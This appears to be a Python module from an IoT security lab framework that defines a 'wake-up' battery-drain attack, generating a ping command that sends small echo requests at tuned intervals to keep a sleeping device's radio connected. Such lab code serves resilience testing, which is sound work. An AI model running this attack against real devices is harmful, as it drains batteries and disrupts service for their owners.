"""Draining batteries: small packets that wake a sleeping device."""

from __future__ import annotations

from emtc_lab.attacks.base import Aim, attack


@attack("wake-up", "energy", "outside", "device", needs=("mqtt-sleeper", "coap-sensor", "lwm2m-node"), ok=(0, 1))
def wake_up(aim: Aim) -> list[str]:
    """Echo requests, just often enough to keep the radio connected."""
    gap = f"{aim.rate((0.5, 2), (5, 11)):.1f}"
    return ["ping", "-q", "-s", "8", "-i", gap, "-w", f"{aim.seconds:.0f}", aim.victim]
